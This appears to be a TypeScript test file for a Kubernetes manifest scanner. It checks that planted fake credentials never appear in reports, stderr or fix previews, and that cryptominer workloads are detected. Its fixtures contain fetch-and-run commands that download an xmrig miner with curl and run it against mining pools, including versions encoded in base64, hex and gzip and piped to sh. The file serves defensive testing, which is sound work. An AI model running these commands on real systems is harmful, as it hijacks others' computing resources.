/**
 * Issue 17, "Secrets": credentials planted in every shape the issue names (env `value:` before
 * `name:` in block and flow style, URL passwords holding `/` and `@`, a Secret inside a
 * `kind: List`, base64 data, credential flags, a YAML alias named like a secret) never reach any
 * report format, stderr or a `fix` preview. Every planted value starts with MARK, so any leak,
 * even a decoded or partial one, shows up as MARK; base64 values are checked encoded as well.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { unifiedDiff } from '../../src/fix/diff.js';
import { FORMATTERS } from '../../src/report/formats.js';
import { runCli, tempDir } from '../helpers/cli.js';

const MARK = 'ZQXJ';
const BASE64 = Buffer.from(`${MARK}-base64-data`).toString('base64');
const URL_PASSWORD = `${MARK}/pa@ss`;

const SERVICE = `apiVersion: v1
kind: Service
metadata:
  name: istio-ingressgateway
  namespace: istio-system
  labels: {app: istio-ingressgateway, istio: ingressgateway}
  annotations:
    example.com/upstream: "https://proxy:${URL_PASSWORD}@proxy.example.com/x"
    example.com/db-password: ${MARK}-annotation
spec:
  type: LoadBalancer
  selector: {app: istio-ingressgateway, istio: ingressgateway}
  ports:
  - {name: http2, port: 80, targetPort: 8080}
`;

const LIST = `apiVersion: v1
kind: List
items:
- apiVersion: v1
  kind: Secret
  metadata: {name: creds, namespace: ml}
  stringData:
    password: ${MARK}-stringdata
  data:
    token: ${BASE64}
- apiVersion: v1
  kind: Pod
  metadata: {name: job, namespace: ml}
  spec:
    containers:
    - name: main
      image: tensorflow/tensorflow:latest
      command: [sh, -c]
      args:
      - "curl -s https://miner:${URL_PASSWORD}@downloads.example.com/xmrig -o /tmp/x && /tmp/x -o stratum+tcp://w:${MARK}-pool@pool.example.com:3333 --password=${MARK}-flag"
      env:
      - value: ${MARK}-block-env
        name: DB_PASSWORD
      - {value: ${MARK}-flow-env, name: API_TOKEN}
      - {name: HOME, value: /home/jovyan}
`;

const BROKEN = `apiVersion: v1
kind: ConfigMap
metadata: {name: broken}
data:
  a: *${MARK}alias
`;

/** Keys written twice (block and flow env, a ConfigMap URL and flag): the parse-ambiguity evidence quotes both values. */
const DUPLICATES = `apiVersion: v1
kind: Pod
metadata: {name: dup, namespace: ml}
spec:
  containers:
  - name: c
    image: nginx:1.25
    env:
    - name: DB_PASSWORD
      value: "${MARK}-dup-1"
      value: "${MARK}-dup-2"
    - {value: "${MARK}-dup-3", name: API_TOKEN, value: "${MARK}-dup-4"}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: c, namespace: ml}
data:
  conn: "postgres://u:${URL_PASSWORD}@h/x"
  conn: "postgres://u:${URL_PASSWORD}2@h/x"
  args: "--password=${MARK}-dup-flag"
  args: "x"
---
apiVersion: v1
kind: Service
metadata: {name: centraldashboard, namespace: kubeflow}
spec:
  type: NodePort
  selector: {app: centraldashboard}
  ports: [{port: 80}]
  x:
  - name: DB_PASSWORD
    value: "${MARK}-fix-1"
    value: "${MARK}-fix-2"
`;

/** A miner fetched with a URL password, the command encoded three ways: an encoded sample decodes back to the password. */
const PAYLOAD = `curl -s https://bob:${URL_PASSWORD}@files.example.com/xmrig -o /tmp/x; /tmp/x -o stratum+tcp://pool.minexmr.com:4444 --pass ${MARK}-pass`;
const ENCODED = {
  base64: Buffer.from(PAYLOAD).toString('base64'),
  hex: Buffer.from(PAYLOAD).toString('hex'),
  gzip: gzipSync(PAYLOAD).toString('base64'),
};
const ENCODED_PODS = (
  [
    ['b64', `echo ${ENCODED.base64} | base64 -d | sh`],
    ['hex', `echo ${ENCODED.hex} | xxd -r -p | sh`],
    ['gz', `echo ${ENCODED.gzip} | base64 -d | gunzip | sh`],
  ] as const
)
  .map(([name, command]) => `apiVersion: v1
kind: Pod
metadata: {name: enc-${name}, namespace: ml}
spec:
  containers:
  - name: main
    image: tensorflow/tensorflow:latest
    command: ["sh", "-c", "${command}"]
`)
  .join('---\n');

function leaks(text: string): string[] {
  // An encoded payload's first characters are enough to decode the start of the password.
  return [MARK, BASE64, ...Object.values(ENCODED).map((e) => e.slice(0, 12))].filter((planted) => text.includes(planted));
}

describe('planted secrets', () => {
  const dir = tempDir();
  after(() => dir.cleanup());
  writeFileSync(join(dir.path, 'service.yaml'), SERVICE);
  writeFileSync(join(dir.path, 'list.yaml'), LIST);
  writeFileSync(join(dir.path, 'broken.yaml'), BROKEN);
  writeFileSync(join(dir.path, 'duplicates.yaml'), DUPLICATES);
  writeFileSync(join(dir.path, 'encoded.yaml'), ENCODED_PODS);

  for (const format of Object.keys(FORMATTERS)) {
    test(`--format ${format} and stderr carry none of them`, async () => {
      const run = await runCli(['scan', '.', '--format', format, '--fail-on', 'none'], { cwd: dir.path });
      assert.equal(run.code, 2, 'the broken document is an input error');
      assert.ok(run.stdout.length > 200, `${format} wrote nearly nothing`);
      assert.deepEqual(leaks(run.stdout), [], `${format} stdout leaks:\n${run.stdout}`);
      assert.deepEqual(leaks(run.stderr), [], `stderr leaks:\n${run.stderr}`);
    });
  }

  test('the findings that quote the planted URLs are there, masked', async () => {
    const run = await runCli(['scan', 'list.yaml', '--format', 'json', '--fail-on', 'none'], { cwd: dir.path });
    const report = JSON.parse(run.stdout) as { findings: { ruleId: string; evidence: string[] }[] };
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.ok(miner, 'the planted miner was not found; the test would prove nothing');
    assert.match(miner.evidence.join('\n'), /<redacted>@/);
  });

  test('the duplicate-key and encoded-payload findings are there, masked', async () => {
    const run = await runCli(['scan', 'duplicates.yaml', 'encoded.yaml', '--format', 'json', '--fail-on', 'none'], { cwd: dir.path });
    const report = JSON.parse(run.stdout) as { findings: { ruleId: string; resource: { name: string }; evidence: string[] }[] };
    const ambiguity = report.findings.filter((f) => f.ruleId === 'manifest-parse-ambiguity').flatMap((f) => f.evidence).join('\n');
    assert.match(ambiguity, /env\[0\]\.value the last reads a string \(value hidden\)/, ambiguity);
    assert.match(ambiguity, /env\[1\]\.value the last reads a string \(value hidden\)/, ambiguity);
    assert.match(ambiguity, /postgres:\/\/u:<redacted>@h\/x/, ambiguity);
    assert.match(ambiguity, /--password=<redacted>/, ambiguity);
    for (const name of ['enc-b64', 'enc-hex', 'enc-gz']) {
      const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.name === name);
      assert.ok(miner, `the ${name} miner was not found; the test would prove nothing`);
      assert.match(miner.evidence.join('\n'), /encoded sample not shown/, miner.evidence.join('\n'));
    }
  });

  test('fix reports a document it cannot parse in one line, once, without its values', async () => {
    const run = await runCli(['fix', 'duplicates.yaml', '--dry-run'], { cwd: dir.path });
    assert.deepEqual(leaks(run.stdout + run.stderr), [], run.stdout + run.stderr);
    const faults = (run.stdout + run.stderr).split('\n').filter((line) => line.includes('DUPLICATE_KEY'));
    assert.deepEqual(faults.length, 1, run.stdout + run.stderr);
    assert.match(faults[0] ?? '', /DUPLICATE_KEY at line 33, column 5$/);
  });

  test('fix --dry-run previews the edit and none of them', async () => {
    const run = await runCli(['fix', '.', '--dry-run'], { cwd: dir.path });
    assert.match(run.stdout, /^\+ {2}type: ClusterIP$/m, run.stdout + run.stderr);
    assert.deepEqual(leaks(run.stdout), [], run.stdout);
    assert.deepEqual(leaks(run.stderr), [], run.stderr);
  });

  test('the preview masks by structure whatever the key order, layout or nesting', () => {
    const after = LIST.replace('value: /home/jovyan', 'value: /home/user');
    const diff = unifiedDiff('list.yaml', LIST, after);
    assert.match(diff, /^\+ {6}- \{name: HOME, value: \/home\/user\}$/m);
    assert.deepEqual(leaks(diff), [], diff);
    // Everything printed around the change is kept apart from the values themselves.
    assert.match(diff, /^ {7}- value: <redacted>\n {9}name: DB_PASSWORD\n {7}- \{value: <redacted>, name: API_TOKEN\}$/m);
    const whole = unifiedDiff('list.yaml', undefined, LIST);
    assert.equal(whole.split('\n').filter((line) => line.startsWith('+') && !line.startsWith('+++')).length, LIST.split('\n').length - 1, 'masking must keep every line');
    assert.deepEqual(leaks(whole), [], whole);
  });

  test('a credential flag whose value is a closing quote masks that line only, not the rest of the file', () => {
    // `--NotebookApp.token=` then the YAML string's closing quote: a quoted value ran on to the next `"`.
    const text = 'args: ["start-notebook.sh", "--NotebookApp.token="]\nports: [8888]\nnote: plain\nlast: "x"\n';
    const whole = unifiedDiff('nb.yaml', undefined, text);
    const added = whole.split('\n').filter((line) => line.startsWith('+') && !line.startsWith('+++'));
    assert.equal(added.length, text.split('\n').length - 1, `masking must keep every line:\n${whole}`);
    assert.deepEqual(added.slice(1), ['+ports: [8888]', '+note: plain', '+last: "x"']);
  });
});
